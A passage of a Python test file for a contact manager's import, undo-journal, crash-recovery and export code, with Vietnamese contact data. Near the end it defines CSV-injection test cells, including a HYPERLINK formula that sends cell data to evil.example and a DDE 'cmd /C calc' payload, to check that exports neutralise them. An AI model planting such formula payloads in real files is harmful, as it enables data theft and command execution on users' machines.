@pytest.mark.parametrize("batch", [1, 2, 3, 7])
def test_where_the_batches_fall_changes_nothing(
    tmp_path: Path, store: ContactStore, monkeypatch: pytest.MonkeyPatch, batch: int
) -> None:
    # The file's duplicates of the book and of its own earlier rows are found whether they
    # sit in the same batch or in one written before.
    with Database(tmp_path / "whole.sqlite3") as whole:
        _book_before_an_import(ContactStore(whole))
        expected = import_file(whole, DATA / "google_contacts.csv")
        reference = _book(ContactStore(whole))
    monkeypatch.setattr(importer, "BATCH", batch)
    _book_before_an_import(store)
    report = import_file(store.db, DATA / "google_contacts.csv")
    assert counts(report) == counts(expected)
    assert (report.imported, report.merged) == (17, 2)
    assert _book(store) == reference
    again = import_file(store.db, DATA / "google_contacts.csv")
    assert counts(again) == (20, 0, 19, 2, 1)
    assert _book(store) == reference


def test_a_row_joins_the_oldest_contact_sharing_its_name_and_a_number(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "linked.csv"
    rows = [
        ["Tên", "Di động", "Di động 2"],
        ["Trần Văn Kiên", "0912 000 001", ""],  # new: none stored has this number
        ["Trần Văn Kiên", "0912 000 002", ""],  # new as well
        ["Tran Van Kien", "0912 000 002", "0912 000 001"],  # both: the older one gains 002
        ["Trần Văn Kiên", "0901 234 567", "0912 000 002"],  # the one stored before is oldest
        ["Trần Văn Kiên", "0912 000 003", ""],
    ]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    for batch in (1, 2, 1000):
        monkeypatch.setattr(importer, "BATCH", batch)
        with Database(tmp_path / f"batch{batch}.sqlite3") as db:
            book = ContactStore(db)
            book.add(Contact(name="Trần Văn Kiên", phones=(Phone.parse("0901234567"),)))
            report = import_file(db, path)
            assert (report.imported, report.merged) == (3, 2), batch
            found = [[phone.number for phone in c.phones] for c in book.get_many([1, 2, 3, 4])]
            assert found == [
                ["0901234567", "0912 000 002"],
                ["0912 000 001", "0912 000 002"],
                ["0912 000 002"],
                ["0912 000 003"],
            ], batch


def test_cancel_between_batches_leaves_the_store_unchanged(
    store: ContactStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    import_file(store.db, DATA / "outlook_contacts_cp1258.csv")
    before = everyone(store)
    written: list[tuple[int, int]] = []
    real = importer._write_batch

    def write_batch(*args: object) -> tuple[int, int]:
        written.append(real(*args))  # type: ignore[arg-type]
        return written[-1]

    monkeypatch.setattr(importer, "BATCH", 3)
    monkeypatch.setattr(importer, "_write_batch", write_batch)
    # Asked before each batch (a file this short is never asked while read): the fourth
    # time, three batches are written, and committed.
    asked: list[bool] = []
    report = import_file(
        store.db,
        DATA / "google_contacts.csv",
        cancelled=lambda: asked.append(True) or len(asked) > 3,
    )
    assert report.cancelled and (report.imported, report.merged) == (0, 0)
    assert len(written) == 3 and sum(added for added, _ in written) > 0
    assert everyone(store) == before
    assert not store.db.conn.in_transaction


def test_a_file_unreadable_past_its_first_rows_takes_back_what_they_wrote(
    store: ContactStore, tmp_path: Path
) -> None:
    # 1,500 good rows (written, a batch at a time, as they are read), then rows the CSV
    # reader refuses, more of them in a row than an import goes past.
    import_file(store.db, DATA / "outlook_contacts_cp1258.csv")
    before = everyone(store)
    path = tmp_path / "cut.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["Họ tên", "Điện thoại"])
        writer.writerows([f"Khách {n}", f"0911 {n:06d}"] for n in range(1_500))
        writer.writerows(["Khách lỗi", "x" * 2_000] for _ in range(150))
    written: list[int] = []
    limit = csv.field_size_limit(1_000)  # a field past it is a csv.Error
    try:
        with pytest.raises(ContactFileError) as raised:
            import_file(store.db, path, saved=written.append)
    finally:
        csv.field_size_limit(limit)
    assert raised.value.code == "import_not_text"
    assert written and written[-1] >= 250  # batches were committed before the bad rows
    assert everyone(store) == before
    assert journal(store.db) == dict.fromkeys(JOURNAL, 0)
    assert fts_ok(store.db) and store.db.integrity_ok()


def test_a_failing_batch_takes_the_earlier_ones_with_it(
    store: ContactStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = everyone(store)
    monkeypatch.setattr(importer, "BATCH", 4)
    calls = failing_batch(monkeypatch, 3)
    with pytest.raises(sqlite3.OperationalError):
        import_file(store.db, DATA / "google_contacts.csv")
    assert len(calls) == 3
    assert everyone(store) == before


# --- batched writes: cancel, failure, crash, concurrent edits and calls ---------------------------

# What an undone import must leave as the searches found it before.
SEARCHES = ("", "an", "nguyen van", "bich", "kien", "ha", "khach", "0901", "4567", "0909", "0912")
# The undo journal's tables: empty once an import is complete or undone.
JOURNAL = ("import_runs", "import_added", "import_merged")
MERGING = Mapping(name=0, phones=((1, "Mobile"), (2, "")), email=3)


def snapshot(db: Database) -> tuple[object, ...]:
    """Every contact to the last stored column (times, favourite, owners, the indexed
    texts), its numbers, and what the searches find."""
    contacts = [tuple(row) for row in db.conn.execute("SELECT * FROM contacts ORDER BY id")]
    phones = [
        tuple(row)
        for row in db.conn.execute(
            "SELECT contact_id, position, number, label, e164, valid, converted_from, digits,"
            " display FROM phones ORDER BY contact_id, position"
        )
    ]
    store = ContactStore(db)
    return contacts, phones, {query: store.search_ids(query, limit=100) for query in SEARCHES}


def journal(db: Database) -> dict[str, int]:
    return {
        table: db.conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] for table in JOURNAL
    }


def _stored_book(db: Database) -> dict[str, int]:
    """The contacts the merging file merges into, with all undo must bring back (a
    favourite with owners, times of its own, a call), and one it leaves alone; their ids."""
    store = ContactStore(db)
    ids = {
        "an": store.add(everything("Nguyễn Văn An", "0901 234 567", email="an@old.vn")),
        "bich": store.add(
            Contact(
                name="Trần Thị Bích",
                phones=(Phone.parse("0912 345 678", "Work"),),
                company="FPT",
                created_at=1_650_000_000.0,
            )
        ),
        "kien": store.add(Contact(name="Lê Văn Kiên", phones=(Phone.parse("0987 654 321"),))),
        "ha": store.add(Contact(name="Phạm Thị Thu Hà", phones=(Phone.parse("0903 111 222"),))),
    }
    record_call(CallStore(db), "+84901234567")
    return ids


def record_call(calls: CallStore, e164: str) -> int:
    """What a dial writes before its request leaves (the number as dialled: its E.164)."""
    call_id = calls.start(
        input=e164, number=e164, e164=e164, extension="101", hotline="02877788056", source="window"
    )
    assert call_id is not None
    return call_id


def _merging_file(path: Path) -> Path:
    """Two rows a batch (BATCH = 2): merges into stored contacts in batches 1, 2, 3 and 4
    (Kiên twice), into a contact the import itself added in batch 3, and new contacts."""
    rows = [
        ["Tên", "Di động", "Di động 2", "Email"],
        ["Nguyễn Văn An", "0901234567", "0909 000 001", "an@new.vn"],
        ["Khách Một", "0911 000 001", "", ""],
        ["Lê Văn Kiên", "0987654321", "0909 000 002", ""],
        ["Khách Hai", "0911 000 002", "", ""],
        ["Khách Một", "0911 000 001", "0909 000 003", "mot@new.vn"],
        ["Trần Thị Bích", "0912345678", "", "bich@new.vn"],
        ["Lê Văn Kiên", "0987654321", "0909 000 004", "kien@new.vn"],
        ["Khách Ba", "0911 000 003", "", ""],
        *[[f"Khách Số {n}", f"0911 100 {n:03d}", "", ""] for n in range(6)],
    ]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


@dataclass
class Merging:
    """The stored book (ids by first name), what it is before the import, and the file
    merging into it, written two rows a batch."""

    ids: dict[str, int]
    before: tuple[object, ...]
    file: Path


@pytest.fixture
def merging(tmp_path: Path, db: Database, monkeypatch: pytest.MonkeyPatch) -> Merging:
    ids = _stored_book(db)
    monkeypatch.setattr(importer, "BATCH", 2)
    return Merging(ids, snapshot(db), _merging_file(tmp_path / "merging.csv"))


def test_cancel_after_committed_batches_leaves_every_contact_as_it_was(
    db: Database, merging: Merging
) -> None:
    saved: list[int] = []
    seen: list[tuple[int, dict[str, int]]] = []

    def saving(done: int) -> None:
        saved.append(done)
        # As another window would see it: each batch is committed.
        with Database(db.path) as other:
            seen.append((ContactStore(other).count(), journal(other)))

    report = import_file(
        db,
        merging.file,
        MERGING,
        saved=saving,
        cancelled=lambda: len(saved) > 4,  # five batches written
    )
    assert report.cancelled and (report.imported, report.merged) == (0, 0)
    assert saved == [2, 4, 6, 8, 10]
    # Batch by batch the contacts were there for all to see, with their journal: An, Kiên
    # and Bích as they were, and Khách Một as the import added it (before merging into it).
    assert [count for count, _ in seen] == [5, 6, 6, 7, 9]
    assert seen[-1][1] == {"import_runs": 1, "import_added": 4, "import_merged": 4}
    assert snapshot(db) == merging.before
    assert journal(db) == dict.fromkeys(JOURNAL, 0)
    assert fts_ok(db) and db.integrity_ok()


def test_a_contact_added_during_an_import_is_not_taken_back_with_it(
    db: Database, merging: Merging
) -> None:
    # After two batches the agent deletes the newest contact (one the import added) and
    # adds one of their own: it must not get the freed id, which the import's undo deletes.
    saved: list[int] = []
    added: list[int] = []

    def saving(done: int) -> None:
        saved.append(done)
        if done == 4:
            with Database(db.path) as window:
                store = ContactStore(window)
                newest = max(store.search_ids("", limit=1000))
                assert store.get(newest).name == "Khách Hai"
                store.delete(newest)
                added.append(
                    store.add(Contact(name="Khách Gọi Tới", phones=(Phone.parse("0977 123 456"),)))
                )

    report = import_file(db, merging.file, MERGING, saved=saving, cancelled=lambda: len(saved) > 4)
    assert report.cancelled
    store = ContactStore(db)
    mine = store.get(added[0])
    assert mine is not None and mine.name == "Khách Gọi Tới"
    assert store.search_ids("khach goi") == [added[0]]
    # Everything else is as before the import.
    assert store.count() == len(merging.ids) + 1
    assert {store.get(contact_id).name for contact_id in merging.ids.values()} == {
        "Nguyễn Văn An",
        "Trần Thị Bích",
        "Lê Văn Kiên",
        "Phạm Thị Thu Hà",
    }
    assert journal(db) == dict.fromkeys(JOURNAL, 0)
    assert fts_ok(db) and db.integrity_ok()


def test_an_error_while_writing_leaves_every_contact_as_it_was(
    db: Database, merging: Merging, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Four batches committed (Kiên merged into twice, Bích once), then the fifth fails.
    batches = failing_batch(monkeypatch, 5)
    with pytest.raises(sqlite3.OperationalError):
        import_file(db, merging.file, MERGING)
    assert len(batches) == 5
    assert snapshot(db) == merging.before
    assert journal(db) == dict.fromkeys(JOURNAL, 0)
    assert fts_ok(db) and db.integrity_ok()


@pytest.mark.parametrize("edited_after", [2, 4])
def test_undo_keeps_what_an_agent_edited_between_batches(
    db: Database, merging: Merging, caplog: pytest.LogCaptureFixture, edited_after: int
) -> None:
    # Kiên is merged into in batches 2 and 4; the agent edits him (in the window, with its
    # own connection) after batch 2 (the import merges into the edit again) or 4.
    ids, before = merging.ids, merging.before
    saved: list[int] = []
    edited: list[tuple[object, ...]] = []

    def saving(done: int) -> None:
        saved.append(done)
        if done == 2 * edited_after:
            with Database(db.path) as window:
                store = ContactStore(window)
                kien = store.get(ids["kien"])
                assert kien is not None and len(kien.phones) == 1 + edited_after // 2
                store.update(replace(kien, note="gọi lại chiều nay"))
                edited.extend(row_of(window, ids["kien"]))

    with caplog.at_level("INFO", logger="omidesk.store.import_journal"):
        report = import_file(
            db,
            merging.file,
            MERGING,
            saved=saving,
            cancelled=lambda: len(saved) > 4,
        )
    assert report.cancelled and edited
    # Kiên is as the agent saved him (with what the import had merged in before the
    # edit); every other contact is as it was before the import.
    assert row_of(db, ids["kien"]) == tuple(edited)
    unchanged = snapshot(db)
    assert [row for row in unchanged[0] if row[0] != ids["kien"]] == [
        row for row in before[0] if row[0] != ids["kien"]
    ]
    assert [row for row in unchanged[1] if row[0] != ids["kien"]] == [
        row for row in before[1] if row[0] != ids["kien"]
    ]
    # Edited after his last merge, he is left as he is; edited before it, the import kept
    # him as the agent left him, and put that back.
    kept = f"contact {ids['kien']}, edited since, kept so" in caplog.text
    assert kept == (edited_after == 4)
    assert journal(db) == dict.fromkeys(JOURNAL, 0)
    assert fts_ok(db)


@pytest.mark.parametrize("name", ["Khách Một", "Khách Hai"])
def test_undo_keeps_a_contact_the_import_added_if_the_agent_edited_it(
    db: Database, merging: Merging, name: str
) -> None:
    # Khách Một is added in batch 1 and merged into in batch 3; Khách Hai is added in batch
    # 2. The agent edits one of them after batch 2; the import is cancelled after batch 4.
    saved: list[int] = []
    edited: list[tuple[object, ...]] = []

    def saving(done: int) -> None:
        saved.append(done)
        if done == 4:
            with Database(db.path) as window:
                store = ContactStore(window)
                (found,) = store.search(fold(name), limit=5)
                store.update(replace(found, note="khách quen, gọi buổi sáng"))
                edited.extend(row_of(window, found.id))

    report = import_file(db, merging.file, MERGING, saved=saving, cancelled=lambda: len(saved) > 3)
    assert report.cancelled and edited
    store = ContactStore(db)
    (kept,) = store.search(fold(name), limit=5)
    # As the agent saved it: without what batch 3 merged into Khách Một after the edit.
    assert kept.note == "khách quen, gọi buổi sáng"
    assert row_of(db, kept.id) == tuple(edited)
    # Every other contact is as it was before the import, the other guest gone.
    after = snapshot(db)
    assert [row for row in after[0] if row[0] != kept.id] == merging.before[0]
    assert [row for row in after[1] if row[0] != kept.id] == merging.before[1]
    assert journal(db) == dict.fromkeys(JOURNAL, 0)
    assert fts_ok(db) and db.integrity_ok()


def row_of(db: Database, contact_id: int) -> tuple[object, ...]:
    """A contact's row and its numbers, as stored."""
    contact = tuple(
        db.conn.execute("SELECT * FROM contacts WHERE id = ?", (contact_id,)).fetchone()
    )
    phones = tuple(
        tuple(row)
        for row in db.conn.execute(
            "SELECT position, number, label, e164, valid, converted_from, digits, display"
            " FROM phones WHERE contact_id = ? ORDER BY position",
            (contact_id,),
        )
    )
    return contact, phones


def _big_file(path: Path, rows: int) -> Path:
    """`rows` new contacts, after a first row that merges into Nguyễn Văn An."""
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["Tên", "Di động", "Di động 2", "Email"])
        writer.writerow(["Nguyễn Văn An", "0901234567", "0909 000 001", "an@new.vn"])
        writer.writerows([f"Khách {n}", f"0388 {n:06d}", "", ""] for n in range(rows))
    return path


def test_an_import_killed_while_writing_is_undone_at_the_next_start(tmp_path: Path) -> None:
    paths = default_paths().ensure()
    with Database(paths.database) as db:
        _stored_book(db)
        before = snapshot(db)
    big = _big_file(tmp_path / "big.csv", 40_000)
    environment = dict(os.environ)
    environment["PYTHONPATH"] = str(ROOT)
    process = subprocess.Popen(
        [sys.executable, "-m", "omidesk", "contacts", "import", str(big)],
        env=environment,
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        # Killed once a few batches are committed, An's merge among them.
        deadline = time.monotonic() + 300
        watch = sqlite3.connect(paths.database, timeout=30)
        try:
            while watch.execute("SELECT COUNT(*) FROM import_added").fetchone()[0] < 3:
                assert process.poll() is None, "the import ended before it could be killed"
                assert time.monotonic() < deadline, "the import never got to write"
                time.sleep(0.01)
        finally:
            watch.close()
    finally:
        process.send_signal(signal.SIGKILL)
        process.wait(timeout=30)
    with Database(paths.database) as db:
        assert journal(db)["import_runs"] == 1 and journal(db)["import_merged"] == 1
        assert ContactStore(db).count() > len(before[0])  # half written
    # The next contacts command undoes it first: it finds what was there before.
    found = run_cli("contacts", "search", "khach", "--json")
    assert found.code == 0, found.err
    assert json.loads(found.out) == []
    with Database(paths.database) as db:
        assert snapshot(db) == before
        assert journal(db) == dict.fromkeys(JOURNAL, 0)
        assert fts_ok(db) and db.integrity_ok()


def journal_left_by(db: Database, pid: int, tmp_path: Path) -> None:
    """An import half written, its journal left as if process `pid` had written it and
    died before it could undo it."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(importer, "BATCH", 2)
        patch.setattr(ImportTarget, "settle", lambda *_args: None)  # the crash: no undo
        with pytest.raises(ZeroDivisionError):
            import_file(
                db,
                _merging_file(tmp_path / "merging.csv"),
                MERGING,
                saved=lambda done: done < 8 or 1 / 0,
            )
    db.conn.execute("UPDATE import_runs SET pid = ?", (pid,))


def dead_pid() -> int:
    """The id of a process that has ended."""
    gone = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        check=True,
        capture_output=True,
        text=True,
    )
    return int(gone.stdout)


def test_an_import_of_a_live_process_is_spared_and_a_dead_ones_undone(tmp_path: Path) -> None:
    with Database(tmp_path / "omidesk.sqlite3") as db:
        _stored_book(db)
        before = snapshot(db)
        # Another OmiDesk importing now (this process stands for it): left alone.
        journal_left_by(db, os.getpid(), tmp_path)
        assert undo_abandoned(db) == 0
        assert journal(db)["import_runs"] == 1 and snapshot(db) != before
        # Its process gone: undone.
        db.conn.execute("UPDATE import_runs SET pid = ?", (dead_pid(),))
        assert undo_abandoned(db) == 1
        assert snapshot(db) == before
        assert journal(db) == dict.fromkeys(JOURNAL, 0)
        assert fts_ok(db)
        assert undo_abandoned(db) == 0  # done once: nothing left to do


@pytest.mark.slow
def test_a_call_is_recorded_while_an_import_is_writing(tmp_path: Path) -> None:
    path = tmp_path / "omidesk.sqlite3"
    with Database(path) as db:
        _stored_book(db)
    big = _big_file(tmp_path / "big.csv", 20_000)
    events: list[str] = []
    reports: list[ImportReport] = []

    def work() -> None:
        with Database(path) as db:
            reports.append(import_file(db, big, saved=lambda done: events.append(f"saved {done}")))
        events.append("import done")

    worker = threading.Thread(target=work)
    with Database(path) as window:
        calls = CallStore(window)
        worker.start()
        try:
            deadline = time.monotonic() + 120
            while not any(event.startswith("saved") and event != "saved 0" for event in events):
                assert worker.is_alive() and time.monotonic() < deadline
                time.sleep(0.005)
            # The dial's store work, on the window's own connection, mid-import.
            importing = journal(window)["import_runs"]
            call_id = record_call(calls, "+84909000001")
            calls.finish(call_id, CallStatus.ACCEPTED, call_uuid="uuid-during-import")
            events.append("call recorded")
            still_importing = journal(window)["import_runs"]
        finally:
            worker.join(timeout=300)
        record = calls.get(call_id)
    assert importing == still_importing == 1
    # Recorded while the import went on writing, which then completed.
    recorded = events.index("call recorded")
    assert any(event.startswith("saved") for event in events[recorded + 1 :]), events
    assert events[-1] == "import done"
    assert reports[0].imported == 20_000 and reports[0].merged == 1
    assert record is not None and record.status == CallStatus.ACCEPTED


def failing_batch(monkeypatch: pytest.MonkeyPatch, failing: int) -> list[int]:
    """Makes the `failing`th batch's inserts fail as a disk would; the sizes of the batches
    tried come in the list returned."""
    real = ContactStore.add_prepared
    tried: list[int] = []

    def add_prepared(self: ContactStore, contacts: list[object]) -> list[int]:
        tried.append(len(contacts))
        if len(tried) == failing:
            raise sqlite3.OperationalError("disk I/O error")
        return real(self, contacts)  # type: ignore[arg-type]

    monkeypatch.setattr(ContactStore, "add_prepared", add_prepared)
    return tried


def test_contacts_are_read_one_at_a_time() -> None:
    items = iter_contacts(DATA / "google_contacts.csv")
    assert not isinstance(items, list)
    first = next(items)
    assert isinstance(first, tuple) and first[0] == 2  # row 2: the first after the header
    result = read_contacts(DATA / "google_contacts.csv")
    rest = list(items)
    assert [first, *(item for item in rest if isinstance(item, tuple))] == result.contacts
    assert [item for item in rest if not isinstance(item, tuple)] == result.issues


# --- export and round trips -----------------------------------------------------------------------

ROUND_TRIP_FILES = [
    "google_contacts.csv",
    "outlook_contacts_cp1258.csv",
    "excel_semicolon_bom.csv",
    "crm_multiline.csv",
    "western_cp1252.csv",
    "iphone_vcard30.vcf",
]


def summary(store: ContactStore) -> set[tuple[object, ...]]:
    return {
        (c.name, c.company, c.email, c.note, c.favorite, tuple(numbers(c)))
        for c in store.search("", limit=1000)
    }


@pytest.mark.parametrize("suffix", [".csv", ".vcf"])
def test_an_export_imports_back_as_the_same_contacts(tmp_path: Path, suffix: str) -> None:
    with Database(tmp_path / "a.sqlite3") as source:
        for name in ROUND_TRIP_FILES:
            import_file(source, DATA / name)
        original = summary(ContactStore(source))
        exported = tmp_path / f"export{suffix}"
        assert export_file(ContactStore(source), exported) == len(original) == 41
    with Database(tmp_path / "b.sqlite3") as target:
        report = import_file(target, exported)
        assert (report.imported, report.merged, len(report.skipped)) == (41, 0, 0)
        assert report.flagged == 4  # the invalid numbers travel, still flagged
        assert summary(ContactStore(target)) == original


def owned_pair() -> list[Contact]:
    """A contact with two owners and one with none, for the exports' round trips."""
    return [
        Contact(
            name="Phạm Minh Khoa",
            phones=(Phone.parse("0901234567", "di động"),),
            owners=("101", "105"),
        ),
        Contact(name="Lý Thu Trang", phones=(Phone.parse("0912345678", ""),)),
    ]


def test_owners_travel_through_the_csv_export_and_back(tmp_path: Path) -> None:
    exported = tmp_path / "export.csv"
    with Database(tmp_path / "a.sqlite3") as source:
        ContactStore(source).add_many(owned_pair())
        assert export_csv(ContactStore(source), exported) == 2
    with Database(tmp_path / "b.sqlite3") as target:
        report = import_file(target, exported)
        assert (report.imported, len(report.skipped)) == (2, 0)
        back = everyone(ContactStore(target))
        assert back["Phạm Minh Khoa"].owners == ("101", "105")
        assert back["Lý Thu Trang"].owners == ()
        # The same contact again with another owner: merged, the owners joined.
        again = tmp_path / "again.csv"
        again.write_text(
            "Họ tên;Số điện thoại;Nhân viên phụ trách\n"
            "Phạm Minh Khoa;0901234567;105, 106\n"
            "Đỗ Văn Hải;0987654321;107 1o8\n",
            encoding="utf-8",
        )
        report = import_file(target, again)
        assert (report.imported, report.merged) == (1, 1)
        back = everyone(ContactStore(target))
        assert back["Phạm Minh Khoa"].owners == ("101", "105", "106")
        # What is no extension is left out, and said; the contact and its valid owners are
        # kept (not flagged: its number is fine).
        assert back["Đỗ Văn Hải"].owners == ("107",)
        assert [(i.row, i.reason, i.name, i.detail) for i in report.left_out] == [
            (3, "import_invalid_owner", "Đỗ Văn Hải", "1o8")
        ]
        assert (report.flagged, report.rows()) == (0, report.left_out)


def test_owners_past_the_five_omicall_rings_are_left_out_and_said(tmp_path: Path) -> None:
    # The contact dialog and the routing service take at most 5 owners: an import keeps the
    # first 5 and reports the rest, in a CSV as in a vCard.
    csv_file = tmp_path / "many.csv"
    csv_file.write_text(
        "Họ tên;Số điện thoại;Nhân viên phụ trách\n"
        "Phạm Minh Khoa;0901234567;101 102 103 104 105 106 107\n"
        "Lý Thu Trang;0912345678;101:102:103:104:105\n",
        encoding="utf-8",
    )
    card_file = tmp_path / "many.vcf"
    card_file.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Đỗ Văn Hải\r\nTEL:0987654321\r\n"
        "X-OMIDESK-OWNERS:201:202:203:204:205:206\r\nEND:VCARD\r\n",
        encoding="utf-8",
    )
    with Database(tmp_path / "c.sqlite3") as db:
        report = import_file(db, csv_file)
        assert (report.imported, len(report.skipped), report.flagged) == (2, 0, 0)
        assert [(i.row, i.reason, i.name, i.detail) for i in report.left_out] == [
            (2, "import_too_many_owners", "Phạm Minh Khoa", "106, 107")
        ]
        report = import_file(db, card_file)
        assert [(i.row, i.reason, i.name, i.detail) for i in report.left_out] == [
            (1, "import_too_many_owners", "Đỗ Văn Hải", "206")
        ]
        back = everyone(ContactStore(db))
    assert back["Phạm Minh Khoa"].owners == ("101", "102", "103", "104", "105")
    assert back["Lý Thu Trang"].owners == ("101", "102", "103", "104", "105")
    assert back["Đỗ Văn Hải"].owners == ("201", "202", "203", "204", "205")
    text = run_cli("contacts", "import", str(csv_file), OMIDESK_HOME=str(tmp_path / "en"))
    assert text.code == 0, text.err
    assert "Owners left out:" in text.out
    assert "row 2: Past the 5 owners OMICall rings: left out" in text.out
    assert "Phạm Minh Khoa — 106, 107" in text.out


def test_a_cell_of_a_thousand_owners_is_reported_short(tmp_path: Path) -> None:
    # A hostile or pasted cell: what is left out is quoted short in the report (the wizard's
    # cell, the command's line), never thousands of values.
    path = tmp_path / "pasted.csv"
    many = " ".join(str(100 + n) for n in range(1500))
    bad = " ".join(f"x{n}" for n in range(1000))
    path.write_text(
        "Họ tên;Số điện thoại;Nhân viên phụ trách\n"
        f"Phạm Minh Khoa;0901234567;{many}\nĐỗ Văn Hải;0987654321;{bad}\n",
        encoding="utf-8",
    )
    with Database(tmp_path / "c.sqlite3") as db:
        report = import_file(db, path)
        back = everyone(ContactStore(db))
    assert [(i.row, i.reason) for i in report.left_out] == [
        (2, "import_too_many_owners"),
        (3, "import_invalid_owner"),
    ]
    assert [i.detail for i in report.left_out] == [
        ", ".join(str(n) for n in range(105, 120))[:63] + "…",
        ", ".join(f"x{n}" for n in range(20))[:63] + "…",
    ]
    assert back["Phạm Minh Khoa"].owners == ("100", "101", "102", "103", "104")
    assert back["Đỗ Văn Hải"].owners == ()


def test_owners_travel_through_the_vcard_export_and_back(tmp_path: Path) -> None:
    exported = tmp_path / "export.vcf"
    with Database(tmp_path / "a.sqlite3") as source:
        ContactStore(source).add_many(owned_pair())
        assert export_vcard(ContactStore(source), exported) == 2
    lines = exported.read_bytes().split(b"\r\n")
    # One property a card with owners, in the service's own form; none for the other.
    assert lines.count(b"X-OMIDESK-OWNERS:101:105") == 1
    assert sum(line.startswith(b"X-OMIDESK-OWNERS") for line in lines) == 1
    with Database(tmp_path / "b.sqlite3") as target:
        report = import_file(target, exported)
        assert (report.imported, len(report.skipped), report.rows()) == (2, 0, [])
        back = everyone(ContactStore(target))
        assert back["Phạm Minh Khoa"].owners == ("101", "105")
        assert back["Lý Thu Trang"].owners == ()
        # A card edited by hand: what is no extension is left out and said, as in a CSV.
        edited = tmp_path / "edited.vcf"
        edited.write_bytes(
            exported.read_bytes().replace(b"X-OMIDESK-OWNERS:101:105", b"X-OMIDESK-OWNERS:106 Lan")
        )
        report = import_file(target, edited)
        assert [(i.row, i.reason, i.name, i.detail) for i in report.left_out] == [
            (2, "import_invalid_owner", "Phạm Minh Khoa", "Lan")  # the second card
        ]
        assert everyone(ContactStore(target))["Phạm Minh Khoa"].owners == ("101", "105", "106")


OWNERS_WITH_MISTAKES = (
    "Họ tên;Số điện thoại;Nhân viên phụ trách\n"
    "Phạm Minh Khoa;0901234567;101, Lan\n"
    "Lý Thu Trang;0912345678;102\n"
    "Đỗ Văn Hải;0987654321;1o8 109 x\n"
)


def test_cli_import_lists_owners_that_are_no_extension(tmp_path: Path) -> None:
    path = tmp_path / "owners.csv"
    path.write_text(OWNERS_WITH_MISTAKES, encoding="utf-8")
    result = run_cli("contacts", "import", str(path), "--json")
    assert result.code == 0, result.err
    report = json.loads(result.out)
    assert (report["imported"], report["flagged"], report["skipped"]) == (3, 0, 0)
    assert [(r["row"], r["name"], r["reason"], r["detail"]) for r in report["left_out_rows"]] == [
        (2, "Phạm Minh Khoa", "import_invalid_owner", "Lan"),
        (4, "Đỗ Văn Hải", "import_invalid_owner", "1o8, x"),
    ]
    text = run_cli("contacts", "import", str(path), OMIDESK_HOME=str(tmp_path / "en"))
    assert text.code == 0, text.err
    assert "Owners left out:" in text.out
    assert "row 2: Not an extension" in text.out
    assert "Phạm Minh Khoa — Lan" in text.out
    assert "Đỗ Văn Hải — 1o8, x" in text.out
    home = str(tmp_path / "vi")
    assert run_cli("config", "set", "language", "vi", OMIDESK_HOME=home).code == 0
    vi = run_cli("contacts", "import", str(path), OMIDESK_HOME=home)
    assert vi.code == 0, vi.err
    assert "Bỏ qua người phụ trách:" in vi.out
    assert "dòng 4: Không phải máy lẻ" in vi.out
    assert "Đỗ Văn Hải — 1o8, x" in vi.out


def test_the_csv_export_is_google_layout_utf8_with_bom(tmp_path: Path, store: ContactStore) -> None:
    import_file(store.db, DATA / "google_contacts.csv")
    path = tmp_path / "out.csv"
    assert export_csv(store, path) == 18
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][:3] == ["Name", "Notes", "Group Membership"]
    assert "Phone 3 - Value" in rows[0] and "Phone 4 - Value" not in rows[0]
    assert preview(path).kind == GOOGLE_CSV


def test_the_vcard_export_is_version_4_escaped_and_folded(
    tmp_path: Path, store: ContactStore
) -> None:
    long_note = "Khách hàng thân thiết; gọi trước 10 giờ, sau 2 giờ chiều\nĐịa chỉ: " + "Đ" * 60
    store.add(
        Contact(
            name="Nguyễn Văn An, Jr.",
            company="Công ty A; Chi nhánh B",
            phones=(
                Phone.parse("0901 234 567", "Mobile"),
                Phone.parse("028 3822 1234", "di động, cơ quan"),
                Phone.parse("028 3822 9999", "Work Fax"),
                Phone.parse("1900", ""),
            ),
            email="an@vinamilk.com.vn, an@gmail.com",
            note=long_note,
        )
    )
    path = tmp_path / "out.vcf"
    assert export_vcard(store, path) == 1
    raw = path.read_bytes()
    lines = raw.split(b"\r\n")
    assert lines[:3] == [b"BEGIN:VCARD", b"VERSION:4.0", "FN:Nguyễn Văn An\\, Jr.".encode()]
    assert all(len(line) <= 75 for line in lines)
    assert b"TEL;TYPE=cell:0901 234 567" in lines
    assert b'TEL;TYPE="work,fax":028 3822 9999' in lines
    assert "item1.X-ABLabel:di động\\, cơ quan".encode() in lines
    store2 = ContactStore(Database(tmp_path / "again.sqlite3"))
    try:
        import_file(store2.db, path)
        (again,) = store2.search("", limit=10)
        assert (again.name, again.company, again.email, again.note) == (
            "Nguyễn Văn An, Jr.",
            "Công ty A; Chi nhánh B",
            "an@vinamilk.com.vn, an@gmail.com",
            long_note,
        )
        assert numbers(again) == numbers(store.search("", limit=1)[0])
    finally:
        store2.db.close()


# Cells a spreadsheet would run as a formula (OWASP "CSV injection"): a name, company,
# note, label or number as written may be any text someone typed or imported.
HOSTILE = Contact(
    name='=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")',
    company="+cmd|' /C calc'!A0",
    email="@SUM(1+1)",
    note="-2+3 ghi chú\ndòng hai",
    phones=(
        Phone.parse("+84 90 123 4567", "=1+1"),
        Phone.parse("-1+2", "Mobile"),
        Phone.parse("=0901234568", ""),
    ),
)
# Names that start with the neutraliser itself, or only look like a formula with a quote.
QUOTED = [
    Contact(name="'=already quoted", phones=(Phone.parse("0912 345 678"),)),
    Contact(name="''+twice", phones=(Phone.parse("0912 345 679"),)),
